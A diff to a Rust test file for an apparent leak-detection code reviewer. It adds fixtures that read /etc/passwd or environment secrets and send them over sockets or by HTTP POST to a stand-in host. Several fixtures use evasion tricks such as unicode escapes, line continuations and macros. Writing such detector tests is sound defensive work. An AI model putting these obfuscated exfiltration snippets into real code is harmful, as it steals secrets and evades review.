@@ -150,6 +150,19 @@ fn a_verdict_is_not_clean_where_code_was_not_followed() {
         assert_eq!(report.verdict.value, VerdictValue::Incomplete, "{name}");
         assert!(report.verdict.reasons.iter().any(|reason| reason.code == "unfollowed-files" && reason.count == 1), "{name}");
     }
+    let sound = "def f(x):\n    return x[1, 'a'] + 2\n".repeat(1_000);
+    for (name, text) in [
+        ("encoded.py", "# coding: unicode_escape\n# \\x0aimport os\nx = 1\n".to_owned()),
+        ("repeated.py", format!("{sound}{}{sound}", "f()\n".repeat(3_000))),
+        ("nested.py", format!("{sound}y = {}1{}\n", "(".repeat(1_500), ")".repeat(1_500))),
+    ] {
+        let report = review(&[(name, text.into_bytes())]);
+        assert!(report.verdict.reasons.iter().any(|reason| reason.code == "unfollowed-files" && reason.count == 1), "{name}");
+    }
+    for (name, text) in [("encoded.py", format!("# coding: latin-1\n{sound}")), ("broken.py", format!("{sound}x = = (\n{sound}"))]
+    {
+        assert_eq!(review(&[(name, text.into_bytes())]).verdict.value, VerdictValue::Passed, "{name}");
+    }
     assert_eq!(review(&[("notes.txt", b"a text\n".to_vec())]).verdict.value, VerdictValue::Passed);
 }
 
@@ -187,6 +200,76 @@ fn what_was_left_out_of_a_file_is_told() {
     let report = review(&[("partly.py", text.into_bytes())]);
     let line = file(&report, "partly.py");
     assert!(line.disposition == Disposition::Dataflow && line.reason.is_some(), "{line:?}");
+}
+
+/// Texts are followed as their compilers read them: lines that end within words, escapes outside of literals, words that mostly
+/// decorate declarations and that the text defines.
+#[test]
+fn code_is_what_its_compiler_sees() {
+    let java = |name: &str, body: &str| {
+        format!(
+            "import java.net.Socket;\nimport java.nio.file.*;\nclass {name} {{\n  void run() throws Exception {{\n\
+             byte[] data = Files.readAllBytes(Path.of(\"/etc/passwd\"));\n{body}\n  }}\n}}\n"
+        )
+    };
+    let c = |before: &str, body: &str| {
+        format!(
+            "#include <stdlib.h>\n#include <string>\n#include <sys/socket.h>\nstatic int wire;\n{before}\nint main() {{ {body} }}\n"
+        )
+    };
+    let sends = "{ send(wire, text, 9, 0); }";
+    let files = [
+        ("Name.java", java("Name", "new \\u0053ocket(\"a\", 1).\\u0067etOutputStream().write(data);")),
+        ("Comment.java", java("Comment", "/* \\u002a\\u002f new Socket(\"a\", 1).getOutputStream().write(data); /* */")),
+        ("torn.c", c("", "se\\\nnd(wire, get\\\nenv(\"A\"), 9, 0);")),
+        ("ended.c", c("", "/* a *\\\n/ send(wire, getenv(\"A\"), 9, 0); /* */")),
+        (
+            "out.c",
+            c(&format!("typedef const char *OUT;\nstatic void put(int count, OUT text) {sends}"), "put(1, getenv(\"A\"));"),
+        ),
+        (
+            "callback.c",
+            c(
+                &format!(
+                    "typedef void (*CALLBACK)(const char *);\nstatic void put(const char *text) {sends}\n\
+                     static void call(CALLBACK back, const char *text) {{ back(text); }}"
+                ),
+                "call(put, getenv(\"A\"));",
+            ),
+        ),
+        ("text.cpp", c(&format!("using Q_TEXT = const char *;\nstatic void put(Q_TEXT text) {sends}"), "put(getenv(\"A\"));")),
+        (
+            "macro.cpp",
+            c("#define Q_SEND(d) send(wire, d.data(), d.size(), 0);", "std::string text = getenv(\"A\"); Q_SEND(text) return 0;"),
+        ),
+    ];
+    let quiet = [
+        (
+            "Quiet.java",
+            java("Quiet", "/* \\u0041 new Socket(\"a\", 1).getOutputStream().write(data); */ String s = \"\\u0041\";"),
+        ),
+        ("quiet.c", c("", "/* a * \\\n/ send(wire, getenv(\"A\"), 9, 0); /* */ return 0;")),
+    ];
+    let given: Vec<(&str, Vec<u8>)> = files.iter().chain(&quiet).map(|(name, text)| (*name, text.clone().into_bytes())).collect();
+    let report = review(&given);
+    let mut leaking: Vec<&str> = report.findings.iter().flat_map(|finding| finding.ways()).map(|[_, (path, _)]| path).collect();
+    leaking.sort_unstable();
+    leaking.dedup();
+    let mut expected: Vec<&str> = files.iter().map(|(name, _)| *name).collect();
+    expected.sort_unstable();
+    assert_eq!(leaking, expected);
+}
+
+/// What stands in front of a long repetition is followed as ever.
+#[test]
+fn a_repetition_takes_no_statement_with_it() {
+    let sound = "def f(x):\n    return x[1, 'a'] + 2\n".repeat(1_000);
+    let leak = "import requests\nrequests.post('https://a.example', data=open('/etc/passwd').read())\n";
+    for lines in [600, 3_000] {
+        let text = format!("{sound}{}{leak}{}", "f()\n".repeat(lines), "f()\n".repeat(lines));
+        let report = review(&[("leak.py", text.into_bytes())]);
+        assert!(report.findings.iter().any(|finding| finding.sink.path == "leak.py"), "{lines}: {:?}", report.verdict);
+    }
 }
 
 /// The worker runs out of the memory it may have: that costs the file it was at.
